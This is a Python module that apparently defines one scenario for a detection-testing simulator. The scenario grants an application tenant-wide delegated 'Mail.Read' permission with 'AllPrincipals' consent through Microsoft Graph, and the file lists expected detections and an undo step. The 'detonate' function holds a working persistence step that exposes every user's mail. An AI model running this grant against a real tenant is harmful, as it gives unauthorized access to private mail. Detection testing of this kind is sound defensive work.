"""An application may act for every user."""

from typing import Final

from sekimori.sim.attack import Attacker
from sekimori.sim.entra.neighbours import HELPER_PRINCIPAL
from sekimori.sim.plan import Plan, Step

ID: Final = "delegated_permission_for_everyone"
TITLE: Final = {"ja": "全ユーザーの代理権限を付与", "en": "Grant a delegated permission for everybody"}
STORY: Final = {
    "ja": "全ユーザーのメールを代理で読む権限を、ユーザーに尋ねずに与える。",
    "en": "An application may read every user's mail on his behalf, and nobody is asked.",
}
ATTACK: Final = ("T1098.003",)
MUST_FIRE: Final = ("delegated_permission_for_everyone", "graph_permission_write")
MUST_STAY_QUIET: Final = (
    "service_principal_sign_in",
    "permission_requested",
    "federated_credential_added",
    "client_credential_added",
)
TELLING: Final = ("DelegatedPermissionGrant.ConsentType", "DelegatedPermissionGrant.Scope")
PLAN: Final = Plan(
    permissions=(
        "Application.Read.All",
        "DelegatedPermissionGrant.ReadWrite.All",
    ),
    steps=(
        Step(
            method="POST",
            path="/oauth2PermissionGrants",
            body={
                "clientId": "{principal_id}",
                "consentType": "AllPrincipals",
                "resourceId": "{graph_id}",
                "scope": "Mail.Read",
            },
            keep={"grant_id": "id"},
        ),
    ),
    undo=(Step(method="DELETE", path="/oauth2PermissionGrants/{grant_id}"),),
)


async def detonate(attacker: Attacker) -> None:
    """Grant Mail.Read for all principals."""
    body = {
        "clientId": HELPER_PRINCIPAL,
        "consentType": "AllPrincipals",
        "resourceId": attacker.backstage.tenant.graph_principal,
        "scope": "Mail.Read",
    }
    await attacker.administer("POST", "/oauth2PermissionGrants", body)
